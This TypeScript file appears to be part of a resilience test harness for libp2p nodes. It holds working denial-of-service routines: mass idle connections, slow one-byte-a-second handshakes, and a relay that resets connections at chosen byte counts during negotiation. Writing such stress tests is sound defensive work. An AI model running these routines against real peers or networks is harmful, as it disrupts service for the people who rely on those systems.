/** Attacks below the first message: sockets, handshakes, resets. */
import type { Libp2p } from '@libp2p/interface'
import { once } from 'node:events'
import { connect, createServer, type AddressInfo, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, numberOf, over, textOf, untilOver } from '../attack.ts'
import { dial, openLiar } from '../liar.ts'

/** Opens `connections` sockets and says nothing; opens each again that is closed. */
export async function silentConnections (attack: Attack): Promise<void> {
  const most = numberOf(attack, 'connections')
  const sockets = new Set<Socket>()
  const open = (): void => {
    if (attack.signal.aborted) return
    const socket = connectTo(attack.victim)
    sockets.add(socket)
    attack.count('opened')
    socket.once('close', () => {
      sockets.delete(socket)
      attack.count('closedByVictim')
      setTimeout(open, 100)
    })
  }
  for (let index = 0; index < most; index++) open()
  await Promise.all([...sockets].slice(0, 100).map(async (socket) => {
    // One that is turned away at once is in position, too.
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => {})
  }))
  attack.inPosition()
  await over(attack)
  attack.count('open', sockets.size)
}

/** Shakes hands at one byte a second, on `connections` sockets, each begun anew when it is closed. */
export async function slowHandshakes (attack: Attack): Promise<void> {
  const drip = async (): Promise<void> => {
    const socket = connectTo(attack.victim)
    const start = performance.now()
    for (let at = 0; !socket.destroyed && !attack.signal.aborted; at++) {
      socket.write(HANDSHAKE.subarray(at % HANDSHAKE.byteLength, at % HANDSHAKE.byteLength + 1))
      attack.count('bytes')
      await sleep(1000, undefined, { signal: attack.signal })
    }
    if (attack.signal.aborted) return
    attack.count('closedByVictim')
    if (performance.now() - start > SLOWEST_HANDSHAKE_MS) attack.count('closedLate')
  }
  attack.inPosition()
  await Promise.all(Array.from({ length: numberOf(attack, 'connections') }, async () => { await untilOver(attack, drip) }))
}

/** Dials with `security`, and resets the connection after some bytes: first none, then more and more, up to open streams. */
export async function resets (attack: Attack): Promise<void> {
  const liar = await openLiar({ security: textOf(attack, 'security') === 'tls' ? 'tls' : 'noise' })
  attack.inPosition()
  await Promise.all(Array.from({ length: PARALLEL_RESETS }, async (_, lane) => {
    await untilOver(attack, async (index) => { await resetAfter(attack, liar, FUSE_BYTES[(index + lane) % FUSE_BYTES.length] ?? 0) })
  }))
}

/** Multistream, then the choice of TLS, then nothing that is TLS. */
const HANDSHAKE = Buffer.concat([Buffer.from('\x13/multistream/1.0.0\n\x0b/tls/1.0.0\n'), Buffer.alloc(100)])

/** The victim gives a handshake 10 s; the rest is for a busy machine. */
const SLOWEST_HANDSHAKE_MS = 13_000

const PARALLEL_RESETS = 4

/**
 * Bytes of both directions together after which the connection is reset. The two greetings of multistream end at 40, the choice
 * of the security at 64, TLS or Noise at 500 to 2,500, and what follows is yamux with identify.
 */
const FUSE_BYTES = [0, 1, 20, 40, 50, 64, 65, 100, 200, 300, 400, 500, 700, 900, 1200, 1500, 1800, 2200, 2600, 3000, 4000, 6000, 10_000]

/** The liar dials through a relay that burns through. */
async function resetAfter (attack: Attack, liar: Libp2p, fuseBytes: number): Promise<void> {
  const server = createServer((socket) => {
    const onward = connectTo(attack.victim)
    let passedBytes = 0
    const cut = (): void => {
      attack.count('resets')
      socket.resetAndDestroy()
      onward.resetAndDestroy()
    }
    const pass = (to: Socket) => (chunk: Buffer): void => {
      to.write(chunk.subarray(0, Math.max(0, fuseBytes - passedBytes)))
      passedBytes += chunk.byteLength
      // What was let through shall arrive: a reset overtakes what waits.
      if (passedBytes >= fuseBytes) setImmediate(cut)
    }
    socket.on('error', () => {}).on('data', pass(onward)).once('close', () => { onward.destroy() })
    onward.on('data', pass(socket)).once('close', () => { socket.destroy() })
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  try {
    const { port } = server.address() as AddressInfo
    const connection = await dial(liar, attack.victim.replace(/\/tcp\/\d+/, `/tcp/${port}`), AbortSignal.any([attack.signal, AbortSignal.timeout(2000)]))
    attack.count('handshakes')
    await Promise.race([once(connection, 'close'), sleep(200)])
    connection.abort(new Error('Done'))
  } catch {
    attack.count('brokenHandshakes')
  } finally {
    server.close()
  }
}

function connectTo (address: string): Socket {
  const [, host = '', port = ''] = /^\/ip4\/([\d.]+)\/tcp\/(\d+)/.exec(address) ?? []
  // Whoever uses the socket sees that it is closed.
  return connect({ host, port: Number(port) }).on('error', () => {})
}
